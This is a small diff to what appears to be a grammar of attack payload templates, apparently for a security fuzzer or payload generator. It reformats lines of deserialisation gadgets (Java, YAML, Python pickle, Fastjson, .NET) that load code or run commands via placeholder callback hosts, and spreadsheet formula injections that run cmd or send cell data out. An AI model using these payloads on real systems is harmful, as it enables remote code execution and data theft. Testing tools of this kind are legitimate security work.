@@ -81,14 +81,16 @@ php_object
     C:«int:4-20»:"«Class»":«int:4-90»:{x:i:0;O:8:"stdClass":0:{};m:a:0:{}}
     a:2:{i:7;O:«int:3-20»:"«Class»":1:{s:«int:1-9»:"«ident»";b:1;}i:7;i:7;}
 Class:
-    «label» «label»Handler GuzzleCookieJar FileLogger SplObjectStorage Monolog\Handler\«label» User Logger «label»_«label»
+    «label» «label»Handler GuzzleCookieJar FileLogger SplObjectStorage Monolog\Handler\«label» User Logger
+    «label»_«label»
 java_object:
     rO0ABXNyAB«alnum:24» rO0ABXQA«alnum:30» rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7«alnum:18» aced0005737200«hex:30»
     AAEAAAD/////AQAAAAAAAAAMAgAAA«alnum:24» H4sIAAAAAAAA«alnum:28»
     !!javax.script.ScriptEngineManager[!!java.net.URLClassLoader[[!!java.net.URL["http://«callback»/"]]]]
     !!python/object/apply:os.system["«plain_command»"] c__builtin__%0aeval%0a(S'«plain_command»'%0atR.
     {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://«callback»/«label»","autoCommit":true}
-    {"@class":"org.«label».«label»","«ident»":"rmi://«callback»/«label»"} {"$type":"System.Windows.Data.ObjectDataProvider,«label»"}
+    {"@class":"org.«label».«label»","«ident»":"rmi://«callback»/«label»"}
+    {"$type":"System.Windows.Data.ObjectDataProvider,«label»"}
 edge
     =cmd|'/c «windows_plain»'!A«int:0-9»
     =HYPERLINK("http://«callback»?d="&A«int:1-99»,"«word»")
